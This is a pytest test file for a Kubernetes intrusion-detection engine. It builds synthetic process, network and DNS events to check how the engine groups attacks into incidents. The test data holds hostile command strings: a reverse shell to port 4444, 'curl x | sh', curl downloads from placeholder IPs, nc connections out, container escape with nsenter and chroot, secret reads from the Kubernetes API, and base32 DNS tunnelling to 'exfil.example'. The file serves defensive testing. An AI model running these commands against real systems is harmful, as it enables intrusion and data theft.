"""The engine on small hand-made frames: an attack across two pods, a kill, a quiet debugging session."""

from __future__ import annotations

import polars as pl
import pytest

from kernelsec_nb.findings import schema
from kernelsec_nb.findings.detections import DETECTION_SCHEMA, empty_detections
from kernelsec_nb.findings.engine import find_in

S = 1_000_000_000
MS = 1_000_000
P = {"exec_id": pl.String, "parent_exec_id": pl.String, "node": pl.String, "namespace": pl.String,
     "pod": pl.String, "workload": pl.String, "binary": pl.String, "args": pl.String, "start_ns": pl.Int64,
     "exit_ns": pl.Int64, "in_init_tree": pl.Boolean, "seen_as": pl.String, "signal": pl.String}
F = {"event_id": pl.String, "time_ns": pl.Int64, "exec_id": pl.String, "src_namespace": pl.String,
     "src_pod": pl.String, "src_workload": pl.String, "src_ip": pl.String, "src_port": pl.Int64,
     "dst_namespace": pl.String, "dst_pod": pl.String, "dst_workload": pl.String, "dst_ip": pl.String,
     "dst_port": pl.Int64, "verdict": pl.String, "is_reply": pl.Boolean, "http_method": pl.String,
     "http_url": pl.String, "http_path": pl.String}
K = {"event_id": pl.String, "kind": pl.String, "time_ns": pl.Int64, "node": pl.String, "namespace": pl.String,
     "pod": pl.String, "workload": pl.String, "exec_id": pl.String, "function_name": pl.String,
     "file_path": pl.String, "daddr": pl.String, "dport": pl.Int64, "hook_args": pl.String}


def proc(exec_id, parent, pod, binary, args="", t=0, *, ns="a", node="n1", init=True, seen="exec", exit_ns=None,
         signal=None, workload=None):
    return {"exec_id": exec_id, "parent_exec_id": parent, "node": node, "namespace": ns if pod else None,
            "pod": pod, "workload": workload or (pod.rsplit("-", 1)[0] if pod else None), "binary": binary,
            "args": args, "start_ns": t, "exit_ns": exit_ns, "in_init_tree": init if pod else None,
            "seen_as": seen, "signal": signal}


def flow(eid, t, exec_id, src, dst, port, *, dst_ip="10.0.0.9", method=None, url=None, verdict="FORWARDED"):
    sns, spod = src
    dns, dpod = dst if dst else (None, None)
    return {"event_id": eid, "time_ns": t, "exec_id": exec_id, "src_namespace": sns, "src_pod": spod,
            "src_workload": spod.rsplit("-", 1)[0] if spod else None, "src_ip": "10.0.0.1", "src_port": 40000,
            "dst_namespace": dns, "dst_pod": dpod, "dst_workload": dpod.rsplit("-", 1)[0] if dpod else None,
            "dst_ip": dst_ip, "dst_port": port, "verdict": verdict, "is_reply": False, "http_method": method,
            "http_url": url, "http_path": url}


def frames(procs, flows=(), kprobes=(), hits=None):
    return {"procs": pl.DataFrame(list(procs), schema=P), "flows": pl.DataFrame(list(flows), schema=F),
            "kprobes": pl.DataFrame(list(kprobes), schema=K), "hits": hits if hits is not None else empty_detections()}


def _hits(rows):
    base = {c: None for c in DETECTION_SCHEMA}
    return pl.DataFrame([{**base, **r} for r in rows], schema=DETECTION_SCHEMA)


def _lateral():
    """A payload in pod app-1 uses a client to register a job with pod sched-0 (another namespace);
    sched-0's main process writes the job file, runs it later, and the job connects out."""
    procs = [
        proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
        proc("schedmain", None, "sched-0", "/srv/sched", t=-100 * S, seen="event", ns="b", node="n2"),
        proc("payload", "appmain", "app-1", "/usr/bin/python3", "-c exec(...)", 100 * S),
        proc("client", "payload", "app-1", "/usr/bin/jobctl", "put job --file /tmp/j.sh", 100 * S + 40 * MS),
        proc("job", "schedmain", "sched-0", "/bin/sh", "/jobs/j.sh", 220 * S, ns="b", node="n2"),
        proc("rsh", "job", "sched-0", "/bin/bash", "-i", 220 * S + 5 * MS, ns="b", node="n2"),
        proc("look", "rsh", "sched-0", "/usr/bin/id", "", 230 * S, ns="b", node="n2"),
    ]
    flows = [
        flow("f1", 100 * S + 50 * MS, "client", ("a", "app-1"), ("b", "sched-0"), 8080, method="PUT",
             url="http://sched.b/api/jobs/j"),
        flow("f2", 220 * S + 10 * MS, "rsh", ("b", "sched-0"), None, 4444, dst_ip="203.0.113.50"),
    ]
    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 60 * MS, "node": "n2", "namespace": "b",
           "pod": "sched-0", "workload": "sched", "exec_id": "schedmain", "function_name": "security_file_permission",
           "file_path": "/jobs/j.sh", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
    return frames(procs, flows, kp)


def test_lateral_movement_is_one_incident_across_both_pods():
    f = find_in(**_lateral())
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert (i.pod, i.namespace, i.node) == ("app-1", "a", "n1")
    assert i.entry is not None and i.entry.exec_id == "payload"
    assert i.key_command is not None and i.key_command.exec_id == "client"  # the hand-off, not the payload
    assert [(r.pod, r.namespace) for r in i.reached] == [("sched-0", "b")]
    assert i.reached[0].how == ["service_write", "exec_file", "connect"] and set(i.reached[0].exec_ids) == {"job", "rsh", "look"}
    assert [(e.ip, e.port, e.role) for e in i.endpoints] == [("203.0.113.50", 4444, "c2")]
    assert i.chain == ["payload", "client"]
    assert i.techniques == {}  # no detection, no exec from outside, no download: nothing to name
    assert set(i.to_dict()["evidence"]) >= {"f1", "f2", "k1"}


def test_kill_is_the_key_command_and_the_exec_is_the_trigger():
    procs = [
        proc("main", None, "web-1", "/srv/web", t=-100 * S, seen="event", exit_ns=50 * S + 2 * MS, signal="SIGKILL"),
        proc("shell", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
        proc("ls", "shell", "web-1", "/bin/ls", "/", 20 * S, init=False, exit_ns=20 * S + MS),
        proc("kill", "shell", "web-1", "/bin/kill", "-9 1", 50 * S, init=False, exit_ns=50 * S + 3 * MS),
        proc("shim", None, None, "/shim", "", 9 * S),
    ]
    hits = _hits([{"rule_id": "falco:Terminal shell", "title": "Terminal shell", "level": "low",
                   "techniques": ["T1059"], "exec_id": "shell", "event_id": "h1"}])
    f = find_in(**frames(procs, hits=hits))
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert i.key_command is not None and (i.key_command.binary, i.key_command.exec_id) == ("/bin/kill", "kill")
    assert i.entry is not None and i.entry.exec_id == "shell" and "exec'd into the container" in (i.entry.trigger or "")
    assert i.chain == ["shell", "kill"]
    assert i.techniques == {"T1059": ["falco:Terminal shell"], "T1609": ["engine:exec_in"]}
    assert i.confidence in ("high", "medium")
    assert i.why[0].startswith("+ ")


def test_a_debugging_session_calling_the_usual_api_is_a_lead_not_an_incident():
    procs = [proc("main", None, "web-1", "/srv/web", t=-100 * S, seen="event")]
    flows = [flow(f"d{h}", h * 3600 * S, "main", ("a", "web-1"), None, 443, dst_ip="93.184.216.34")
             for h in range(6)]
    procs += [proc("shell", "shim", "web-1", "/bin/sh", "", 7000 * S, init=False),
              proc("env", "shell", "web-1", "/usr/bin/env", "", 7010 * S, init=False),
              proc("curl", "shell", "web-1", "/usr/bin/curl", "https://api.example/v1", 7020 * S, init=False)]
    flows.append(flow("x", 7020 * S + 5 * MS, "curl", ("a", "web-1"), None, 443, dst_ip="93.184.216.34"))
    hits = _hits([{"rule_id": "falco:Terminal shell", "title": "Terminal shell", "level": "low",
                   "techniques": ["T1059"], "exec_id": "shell", "event_id": "h1"}])
    f = find_in(**frames(procs, flows, hits=hits))
    assert f.incidents == []
    assert [(lead.pod, lead.exec_ids[0]) for lead in f.leads] == [("web-1", "shell")]
    assert "below the threshold" in f.leads[0].why_not


def test_an_empty_capture_says_why_and_validates():
    f = find_in(**frames([]))
    assert f.incidents == [] and f.leads == []
    assert any("no process events" in n for n in f.notes)
    jsonschema = pytest.importorskip("jsonschema")
    jsonschema.validate(f.to_dict(), schema())
    jsonschema.validate(find_in(**_lateral()).to_dict(), schema())


def test_a_job_an_intruder_wrote_is_not_routine_and_its_beacon_is_c2():
    """A dropped script runs every minute from the pod's own scheduler: regular, but the intruder's."""
    procs = [proc("main", None, "wiki-1", "/srv/php", t=-100 * S, seen="event"),
             proc("cron", None, "wiki-1", "/sbin/cron", t=-100 * S, seen="event"),
             proc("inj", "main", "wiki-1", "/bin/sh", "-c curl -o /www/.t.sh http://203.0.113.5/t.sh", 10 * S),
             proc("dl", "inj", "wiki-1", "/usr/bin/curl", "-o /www/.t.sh http://203.0.113.5/t.sh", 10 * S + MS,
                  exit_ns=11 * S)]
    flows = [flow("d", 10 * S + 2 * MS, "dl", ("a", "wiki-1"), None, 80, dst_ip="203.0.113.5")]
    for i in range(6):
        t = (60 + 60 * i) * S
        procs += [proc(f"run{i}", "cron", "wiki-1", "/bin/sh", "/www/.t.sh", t),
                  proc(f"b{i}", f"run{i}", "wiki-1", "/usr/bin/curl", "-s http://203.0.113.6:8080/b", t + MS,
                       exit_ns=t + 2 * S)]
        flows.append(flow(f"b{i}", t + 2 * MS, f"b{i}", ("a", "wiki-1"), None, 8080, dst_ip="203.0.113.6"))
    kp = [{"event_id": "w", "kind": "process_kprobe", "time_ns": 10 * S + 3 * MS, "node": "n1", "namespace": "a",
           "pod": "wiki-1", "workload": "wiki", "exec_id": "dl", "function_name": "security_file_permission",
           "file_path": "/www/.t.sh", "daddr": None, "dport": None, "hook_args": '[{"int_arg":2}]'}]
    f = find_in(**frames(procs, flows, kp))
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert i.entry is not None and i.entry.exec_id == "inj"
    assert i.key_command is not None and i.key_command.exec_id == "dl"  # wrote what ran later
    roles = {(e.ip, e.port): e.role for e in i.endpoints}
    assert roles == {("203.0.113.5", 80): "download", ("203.0.113.6", 8080): "c2"}
    assert i.techniques == {"T1105": ["engine:download"]}


def test_one_kind_of_act_without_a_detection_is_a_lead_and_alike_leads_merge():
    """A notebook terminal's git pull: started by the service, connected out, nothing detected."""
    procs = [proc("main", None, "nb-0", "/srv/notebook", t=-100 * S, seen="event")]
    flows = []
    for i, at in enumerate((100, 1300, 1700)):  # by hand: no schedule
        t = at * S
        procs += [proc(f"git{i}", "main", "nb-0", "/usr/bin/git", "pull", t, exit_ns=t + 2 * S),
                  proc(f"rem{i}", f"git{i}", "nb-0", "/usr/lib/git-core/git-remote-https", "origin", t + MS,
                       exit_ns=t + S)]
        flows += [flow(f"g{i}", t + 2 * MS, f"rem{i}", ("a", "nb-0"), None, 443, dst_ip="140.82.112.3"),
                  flow(f"h{i}", t + 3 * MS, f"git{i}", ("a", "nb-0"), None, 443, dst_ip="140.82.112.4")]
    f = find_in(**frames(procs, flows))
    assert f.incidents == []
    assert len(f.leads) == 1
    lead = f.leads[0]
    assert lead.why_not == "one kind of act (connect_out) and no detection (and 2 more like it in nb)"
    assert sorted(lead.exec_ids) == ["git0", "git1", "git2", "rem0", "rem1", "rem2"]


def test_a_rule_that_fires_on_every_build_does_not_make_a_build_an_incident():
    """A CI runner's builds: each a shell from the service that clones over the internet; a rule
    fires on every one of them all through the capture, so it is the workload's routine."""
    procs = [proc("runner", None, "ci-0", "/usr/bin/runner", t=-100 * S, seen="event")]
    flows, rows = [], []
    for i, at in enumerate((100, 250, 1300, 1500, 2500, 3700, 4000, 5200, 6950)):  # irregular: no schedule
        t = at * S
        procs += [proc(f"sh{i}", "runner", "ci-0", "/bin/bash", f"-c /builds/{i}/step", t, exit_ns=t + 60 * S),
                  proc(f"git{i}", f"sh{i}", "ci-0", "/usr/bin/git", "clone https://git.example/x", t + S,
                       exit_ns=t + 5 * S)]
        flows.append(flow(f"g{i}", t + 2 * S, f"git{i}", ("a", "ci-0"), None, 443, dst_ip="35.231.145.151"))
        rows.append({"rule_id": "sigma:shell-from-service", "title": "Shell started by a service process",
                     "level": "high", "techniques": ["T1059"], "exec_id": f"sh{i}", "event_id": f"h{i}",
                     "time_ns": t, "workload": "ci"})
    f = find_in(**frames(procs, flows, hits=_hits(rows)))
    assert f.incidents == []
    assert len(f.leads) == 1 and "and 8 more like it in ci" in f.leads[0].why_not


def test_a_main_process_polling_the_api_all_day_is_no_lead():
    """An application's main process (running before the capture began) contacts the API server
    every ~40 min over 3 h and two low rules fire each time: its routine, neither incident nor lead.
    The same rules on a shell exec'd into the pod still count."""
    m = 60 * S
    procs = [proc("main", None, "cart-0", "/app/cart", t=-100 * S, seen="event")]
    rows = []
    for i, at in enumerate((0, 41, 83, 124, 170)):
        for rule in ("sigma:api-from-pod", "falco:Contact K8S API Server From Container"):
            rows.append({"rule_id": rule, "title": rule, "level": "low", "exec_id": "main",
                         "event_id": f"{rule}{i}", "time_ns": at * m, "workload": "cart"})
    f = find_in(**frames(procs, hits=_hits(rows)))
    assert f.incidents == [] and f.leads == []
    procs.append(proc("sh", None, "cart-0", "/bin/sh", "", 60 * m, init=False))
    rows.append({"rule_id": "sigma:api-from-pod", "title": "api", "level": "low", "exec_id": "sh",
                 "event_id": "x", "time_ns": 60 * m, "workload": "cart"})
    rows.append({"rule_id": "sigma:shell", "title": "shell", "level": "medium", "exec_id": "sh",
                 "event_id": "y", "time_ns": 60 * m, "workload": "cart"})
    assert [x.pod for x in find_in(**frames(procs, hits=_hits(rows))).leads] == ["cart-0"]


def test_without_process_events_dropped_and_unusual_requests_are_leads_of_their_source_pod():
    """Hubble alone: no process, so no incident; the pod whose requests a policy dropped and that
    sent a state-changing request its workload does not send all day is a lead. A pod that POSTs
    the same thing all through the capture is not."""
    h = 3600 * S
    flows = [flow(f"r{i}", i * h // 2, None, ("a", "bot-1"), ("a", "api-0"), 80, method="POST", url="/v1/land")
             for i in range(12)]
    flows += [flow("x1", 3 * h, None, ("a", "web-1"), ("a", "api-0"), 80, method="PUT", url="/v1/port"),
              flow("x2", 3 * h + S, None, ("a", "web-1"), ("a", "api-0"), 80, method="PUT", url="/v1/port",
                   verdict="DROPPED")]
    fr = frames([], flows)
    fr["flows"] = fr["flows"].with_columns(pl.lit("n1").alias("node"))
    f = find_in(**fr)
    assert f.incidents == []
    assert [(x.namespace, x.pod, x.node) for x in f.leads] == [("a", "web-1", "n1")]
    assert "no process events" in f.leads[0].why_not


def test_a_detection_no_process_explains_is_a_lead_quoting_its_text():
    hits = _hits([{"rule_id": "falco:drop", "title": "Drop and execute new binary", "level": "critical",
                   "detail": "Executing /tmp/x -c id", "namespace": "a", "pod": "web-1", "node": "n1",
                   "event_id": "a1", "time_ns": 1}])
    f = find_in(**frames([], hits=hits))
    assert f.incidents == []
    assert [(x.pod, x.node, x.why) for x in f.leads] == [
        ("web-1", "n1", ["+ Drop and execute new binary: Executing /tmp/x -c id"])]


def test_without_an_act_the_key_command_is_the_most_suspicious_and_of_equal_weight_the_latest():
    """An exec'd shell (exec_in 1 + high 3) runs escape tools (critical 4 each) and nothing with an
    effect: the key command is the last tool, every time (not whichever the grouping met first)."""
    procs = [proc("sh", None, "web-1", "/bin/sh", "", 100 * S, init=False)]
    rows = [{"rule_id": "sigma:shell", "title": "shell", "level": "high", "exec_id": "sh", "event_id": "h0",
             "time_ns": 100 * S, "workload": "web"}]
    # irregular times, other arguments each time: no schedule
    for n, (at, arg) in enumerate(zip((101, 103, 104, 108, 110, 117), ("-m", "-u", "-i", "-n", "-p", "-a"), strict=True)):
        procs.append(proc(f"t{n}", "sh", "web-1", "/usr/bin/nsenter", f"-t 1 {arg}", at * S, init=False))
        rows.append({"rule_id": "sigma:escape", "title": "escape", "level": "critical", "exec_id": f"t{n}",
                     "event_id": f"h{n + 1}", "time_ns": at * S, "workload": "web"})
    for _ in range(3):
        i = find_in(**frames(procs, hits=_hits(rows))).incidents[0]
        assert i.key_command is not None and i.key_command.exec_id == "t5"


def test_the_entry_is_on_the_key_commands_line_not_an_earlier_child_of_the_same_service():
    """A service started during the capture (so not routine) runs a build at 09:00 and, at 10:00,
    an injected shell whose payload connects out: the entry is the injected shell."""
    procs = [proc("svc", None, "nb-0", "/usr/bin/python3", "-m jupyter", 0),
             proc("build", "svc", "nb-0", "/bin/sh", "-c 'pip install x'", 3600 * S),
             proc("ninja", "build", "nb-0", "/tmp/pip-1/bin/ninja", "", 3605 * S),
             proc("inj", "svc", "nb-0", "/bin/sh", "-c 'curl … ; /tmp/.x/k'", 7200 * S),
             proc("payload", "inj", "nb-0", "/tmp/.x/k", "", 7202 * S)]
    flows = [flow("o1", 7203 * S, "payload", ("a", "nb-0"), None, 443, dst_ip="198.51.100.23")]
    hits = _hits([{"rule_id": "sigma:tmp", "title": "run from /tmp", "level": "high", "exec_id": "payload",
                   "event_id": "h1", "time_ns": 7202 * S, "workload": "nb"}])
    i = find_in(**frames(procs, flows, hits=hits)).incidents[0]
    assert i.key_command is not None and i.key_command.exec_id == "payload"
    assert i.entry is not None and i.entry.exec_id == "inj"
    assert i.chain == ["inj", "payload"]


def test_a_tool_delivered_then_run_is_the_key_command_not_its_delivery():
    """An exec'd ``tar`` writes /tmp/tool (a hand-off), an exec'd /tmp/tool connects out: the key
    command is the tool (what did the damage), the delivery its entry."""
    procs = [proc("tar", None, "web-1", "/bin/tar", "xf - -C /tmp", 100 * S, init=False),
             proc("tool", None, "web-1", "/tmp/tool", "--scan", 160 * S, init=False)]
    flows = [flow("o1", 161 * S, "tool", ("a", "web-1"), None, 443, dst_ip="203.0.113.5")]
    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 5 * MS, "node": "n1", "namespace": "a",
           "pod": "web-1", "workload": "web", "exec_id": "tar", "function_name": "security_file_permission",
           "file_path": "/tmp/tool", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
    (i,) = find_in(**frames(procs, flows, kp)).incidents
    assert i.key_command is not None and i.key_command.exec_id == "tool"
    assert i.entry is not None and i.entry.exec_id == "tar" and i.chain == ["tar", "tool"]


def test_a_connection_only_a_connect_hook_saw_is_an_endpoint_though_other_flows_exist():
    """Hubble saw the shell's lookup, not its ``nc`` out (another node's agent, another path): the
    connect hook's destination is still an endpoint of the incident."""
    procs = [proc("sh", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
             proc("nc", "sh", "web-1", "/usr/bin/nc", "203.0.113.77 9001", 11 * S, init=False)]
    flows = [flow("f1", 10 * S + MS, "sh", ("a", "web-1"), ("kube-system", "dns-0"), 53)]
    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 11 * S + MS, "node": "n1", "namespace": "a",
           "pod": "web-1", "workload": "web", "exec_id": "nc", "function_name": "tcp_connect",
           "file_path": None, "daddr": "203.0.113.77", "dport": 9001, "hook_args": None}]
    hits = _hits([{"rule_id": "sigma:nc", "title": "Network tool", "level": "high", "exec_id": "nc",
                   "event_id": "h1", "time_ns": 11 * S, "workload": "web"}])
    (i,) = find_in(**frames(procs, flows, kp, hits=hits)).incidents
    assert ("203.0.113.77", 9001) in {(e.ip, e.port) for e in i.endpoints}
    assert i.key_command is not None and i.key_command.exec_id == "nc"


def test_what_ran_suspiciously_on_the_host_after_an_escape_is_reached_from_it():
    """An exec'd shell chroots to the host (a T1611 detection); cron (running before the capture)
    later starts a shell whose payload connects out; cron's earlier and routine jobs stay out."""
    procs = [proc("sh", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
             proc("chroot", "sh", "web-1", "/usr/sbin/chroot", "/host /bin/bash", 12 * S, init=False),
             proc("cron", None, None, "/usr/sbin/cron", "-f", None, seen="parent"),
             proc("early", "cron", None, "/tmp/.early", "", 5 * S),
             proc("hsh", "cron", None, "/bin/sh", "-c 'curl x | sh'", 300 * S),
             proc("pay", "hsh", None, "/tmp/.p", "", 301 * S),
             proc("rot", "cron", None, "/usr/sbin/logrotate", "/etc/logrotate.conf", 360 * S)]
    flows = [flow("o1", 302 * S, "pay", (None, None), None, 4444, dst_ip="203.0.113.9")]
    hits = _hits([{"rule_id": "sigma:chroot", "title": "Container escape tool", "level": "critical",
                   "techniques": ["T1611"], "exec_id": "chroot", "event_id": "h1", "time_ns": 12 * S,
                   "workload": "web"},
                  {"rule_id": "sigma:tmp", "title": "run from /tmp", "level": "high", "exec_id": "pay",
                   "event_id": "h2", "time_ns": 301 * S}])
    f = find_in(**frames(procs, flows, hits=hits))
    (i,) = [x for x in f.incidents if x.pod == "web-1"]
    host = [r for r in i.reached if r.pod is None and r.node == "n1"]
    assert host and {"hsh", "pay"} <= set(host[0].exec_ids) and "escape" in host[0].how
    assert not {"early", "rot", "cron"} & set(host[0].exec_ids)
    assert i.key_command is not None and i.key_command.exec_id == "pay"


def _with_dns(fr, rows):
    """``fr`` with DNS lookup flows (``dns_query``) added: (event id, time, exec id, pod, name)."""
    extra = [{**flow(eid, t, x, ("a", pod), ("kube-system", "dns-0"), 53), "dns_query": q} for eid, t, x, pod, q in rows]
    fl = fr["flows"].with_columns(pl.lit(None, pl.String).alias("dns_query"))
    return {**fr, "flows": pl.concat([fl, pl.DataFrame(extra, schema=fl.schema)])}


def _sidecar():
    """A pod's entrypoint starts its app and a second program; the app reads its token at start (a
    high detection) and calls one outside API all through the capture; minutes later the second
    program starts a shell that reads the token and calls the Kubernetes API, then the pod (no flow
    names the process) looks up 40 base32 names under one domain."""
    import base64
    import random

    procs = [proc("init", "shim", "w-1", "/bin/sh", "/entrypoint.sh", 0),
             proc("shim", None, None, "/shim", "", 0),
             proc("app", "init", "w-1", "/srv/app", "--listen :8080", 20 * MS),
             proc("prog", "init", "w-1", "/usr/local/bin/agent", "--flush 10s", 25 * MS),
             proc("sh", "prog", "w-1", "/bin/sh", "-c 'curl … /api/v1/secrets'", 300 * S, exit_ns=302 * S),
             proc("get", "sh", "w-1", "/usr/bin/curl", "-sk https://kubernetes.default.svc/api/v1/secrets", 300 * S + 5 * MS,
                  exit_ns=301 * S)]
    flows = [flow(f"t{i}", (1 + 20 * i) * S, "app", ("a", "w-1"), None, 443, dst_ip="198.51.100.80") for i in range(30)]
    flows.append(flow("k", 300 * S + 9 * MS, "get", ("a", "w-1"), None, 6443, dst_ip="172.18.0.2"))
    hits = _hits([{"rule_id": "sigma:token", "title": "token read", "level": "high", "exec_id": "app", "event_id": "h1",
                   "time_ns": 200 * MS, "workload": "w"},
                  {"rule_id": "sigma:token", "title": "token read", "level": "high", "exec_id": "sh", "event_id": "h2",
                   "time_ns": 300 * S + MS, "workload": "w"},
                  {"rule_id": "falco:api", "title": "Contact API", "level": "low", "exec_id": "get", "event_id": "h3",
                   "time_ns": 300 * S + 9 * MS, "workload": "w"}])
    rnd = random.Random(7)
    lookups = [(f"d{i}", (305 + i) * S, None, "w-1",
                f"{base64.b32encode(rnd.randbytes(30)).decode().lower().rstrip('=')}.{i:04x}.t.exfil.example.")
               for i in range(40)]
    lookups += [(f"n{i}", (2 + 20 * i) * S, None, "w-1", "api.partner.example.") for i in range(30)]
    return _with_dns(frames(procs, flows, hits=hits), lookups)


def test_a_pods_dns_tunnel_is_an_act_of_the_line_active_before_it_not_of_the_app_beside_it():
    f = find_in(**_sidecar())
    assert len(f.incidents) == 1
    (i,) = f.incidents
    assert (i.pod, i.namespace) == ("w-1", "a")
    assert i.key_command is not None and i.key_command.exec_id in {"sh", "get"}  # the line's, never the app's
    assert {"app", "init"}.isdisjoint(i.chain)
    assert [(e.ip, e.port, e.fqdn, e.role) for e in i.endpoints] == [("", 53, "t.exfil.example", "exfil")]
    assert {"T1048", "T1071"} <= set(i.techniques)
    assert {f"d{n}" for n in range(40)} <= set(i.to_dict()["evidence"])  # every lookup is evidence
    assert any("attributed to /usr/local/bin/agent" in w for w in i.why)
    jsonschema = pytest.importorskip("jsonschema")
    jsonschema.validate(f.to_dict(), schema())


def test_without_the_lookups_the_app_beside_the_line_is_not_its_key_command_nor_endpoint():
    fr = _sidecar()
    fr["flows"] = fr["flows"].filter(pl.col("dns_query").is_null() | ~pl.col("dns_query").str.contains("exfil"))
    for i in find_in(**fr).incidents:
        assert i.key_command is not None and i.key_command.exec_id != "app"
        assert "198.51.100.80" not in {e.ip for e in i.endpoints}


def _through_a_database():
    """Two injected requests into web-1 (its server is routine: it talks to db-0 all day): the first
    shell's client makes db-0's server write a module (never run by a process); the second's
    clients make the server start a shell there that connects out and is driven from outside."""
    procs = [proc("websrv", None, "web-1", "/srv/web", t=-100 * S, seen="event"),
             proc("dbsrv", None, "db-0", "/srv/db", t=-100 * S, seen="event", ns="b", node="n2"),
             proc("sh1", "websrv", "web-1", "/bin/sh", "-c 'dbcli replicate-from 203.0.113.7'", 100 * S),
             proc("cli1", "sh1", "web-1", "/usr/bin/dbcli", "replicate-from 203.0.113.7", 100 * S + 20 * MS),
             proc("sh2", "websrv", "web-1", "/bin/sh", "-c 'dbcli load-module; dbcli run …'", 130 * S),
             proc("cli2", "sh2", "web-1", "/usr/bin/dbcli", "load-module /data/m.so", 130 * S + 20 * MS),
             proc("cli3", "sh2", "web-1", "/usr/bin/dbcli", "run 'bash -i'", 130 * S + 40 * MS),
             proc("rsh", "dbsrv", "db-0", "/bin/sh", "-c 'bash -i'", 130 * S + 60 * MS, ns="b", node="n2"),
             proc("bash", "rsh", "db-0", "/bin/bash", "-i", 130 * S + 62 * MS, ns="b", node="n2"),
             proc("look", "bash", "db-0", "/usr/bin/id", "", 140 * S, ns="b", node="n2", exit_ns=140 * S + MS)]
    flows = [flow(f"r{h}", h * 60 * S, "websrv", ("a", "web-1"), ("b", "db-0"), 6379) for h in range(-1, 5)]
    flows += [flow("c1", 100 * S + 25 * MS, "cli1", ("a", "web-1"), ("b", "db-0"), 6379),
              flow("c2", 130 * S + 25 * MS, "cli2", ("a", "web-1"), ("b", "db-0"), 6379),
              flow("c3", 130 * S + 45 * MS, "cli3", ("a", "web-1"), ("b", "db-0"), 6379),
              flow("o", 130 * S + 63 * MS, "bash", ("b", "db-0"), None, 4444, dst_ip="203.0.113.8")]
    kp = [{"event_id": "w", "kind": "process_kprobe", "time_ns": 102 * S, "node": "n2", "namespace": "b",
           "pod": "db-0", "workload": "db", "exec_id": "dbsrv", "function_name": "security_file_permission",
           "file_path": "/data/m.so", "daddr": None, "dport": None, "hook_args": '[{"int_arg":2}]'}]
    hits = _hits([{"rule_id": "sigma:svcshell", "title": "Shell started by a service", "level": "high", "exec_id": x,
                   "event_id": f"h{x}", "time_ns": 100 * S, "workload": "web"} for x in ("sh1", "sh2")])
    return frames(procs, flows, kp, hits=hits)


def test_requests_that_drove_one_service_are_one_incident_keyed_on_what_the_service_then_ran():
    f = find_in(**_through_a_database())
    assert len(f.incidents) == 1
    (i,) = f.incidents
    assert (i.pod, i.namespace, i.node) == ("web-1", "a", "n1")
    assert i.entry is not None and i.entry.exec_id == "sh2"  # on the key command's own line
    # the shell the database started owns the channel out; the clients were only the means
    assert i.key_command is not None and i.key_command.exec_id == "bash"
    assert i.chain[0] == "sh2" and i.chain[-1] == "bash"
    (r,) = i.reached
    assert (r.pod, r.namespace) == ("db-0", "b") and {"service", "service_write"} <= set(r.how)
    assert [(e.ip, e.port, e.role) for e in i.endpoints] == [("203.0.113.8", 4444, "c2")]


def test_a_tunnel_sent_by_a_loop_of_lookup_tools_keys_on_the_loop_and_the_resolver_is_not_reached():
    """An injected shell runs a script that runs one lookup tool per chunk (each lookup names its
    process): the script owns the tunnel and is the key command; the resolver pod the lookups went
    to is not a pod the attacker acted in."""
    import base64
    import random

    rnd = random.Random(11)
    procs = [proc("srv", None, "w-1", "/srv/app", t=-100 * S, seen="event"),
             proc("inj", "srv", "w-1", "/bin/sh", "-c 'convert …; sh /tmp/.p'", 100 * S),
             proc("script", "inj", "w-1", "/bin/sh", "/tmp/.p", 100 * S + 5 * MS)]
    lookups = []
    for i in range(30):
        t = 101 * S + i * 300 * MS
        procs.append(proc(f"dig{i}", "script", "w-1", "/usr/bin/dig", "+short TXT …", t, exit_ns=t + 50 * MS))
        name = f"{base64.b32encode(rnd.randbytes(30)).decode().lower().rstrip('=')}.{i}.q.exfil.example."
        lookups.append((f"d{i}", t + MS, f"dig{i}", "w-1", name))
    hits = _hits([{"rule_id": "sigma:svcshell", "title": "Shell started by a service", "level": "high",
                   "exec_id": "inj", "event_id": "h1", "time_ns": 100 * S, "workload": "w"}])
    fr = _with_dns(frames(procs, hits=hits), lookups)
    (i,) = find_in(**fr).incidents
    assert i.key_command is not None and i.key_command.exec_id == "script"
    assert i.entry is not None and i.entry.exec_id == "inj" and i.chain == ["inj", "script"]
    assert i.reached == []  # dns-0 only answered lookups
    assert [(e.fqdn, e.role) for e in i.endpoints] == [("q.exfil.example", "exfil")]


def test_what_the_reached_pods_server_fetched_for_the_attacker_is_a_download_endpoint():
    """Right after the first client's connection, db-0's routine server connects out to an address
    its workload never uses and writes the module it fetched: that address is the incident's
    download endpoint (T1105), though the server is no link of the part."""
    fr = _through_a_database()
    extra = flow("x", 100 * S + 300 * MS, "dbsrv", ("b", "db-0"), None, 6379, dst_ip="203.0.113.7")
    fr["flows"] = pl.concat([fr["flows"], pl.DataFrame([extra], schema=fr["flows"].schema)])
    (i,) = find_in(**fr).incidents
    assert i.key_command is not None and i.key_command.exec_id == "bash"
    assert sorted((e.ip, e.port, e.role) for e in i.endpoints) == [("203.0.113.7", 6379, "download"),
                                                                   ("203.0.113.8", 4444, "c2")]
    assert "T1105" in i.techniques


def test_one_rule_of_two_engines_on_one_process_weighs_once():
    """The same rule reported by Falco and by Tracee on one process is one piece of evidence: the
    part weighs what one engine's report weighs."""
    procs = [proc("main", None, "web-1", "/srv/web", t=-100 * S, seen="event"),
             proc("apt", "main", "web-1", "/usr/bin/apt-get", "update", 10 * S)]
    one = {"level": "high", "title": "Launch Package Management Process in Container", "exec_id": "apt",
           "time_ns": 10 * S, "techniques": [], "tactics": []}
    single = find_in(**frames(procs, hits=_hits([{**one, "rule_id": "falco:x", "event_id": "h1"}])))
    both = find_in(**frames(procs, hits=_hits([{**one, "rule_id": "falco:x", "event_id": "h1"},
                                               {**one, "rule_id": "tracee:x", "event_id": "h2"}])))
    weight = lambda f: [x.score for x in f.leads if "apt" in x.exec_ids]  # noqa: E731
    assert weight(single) and weight(both) == weight(single)
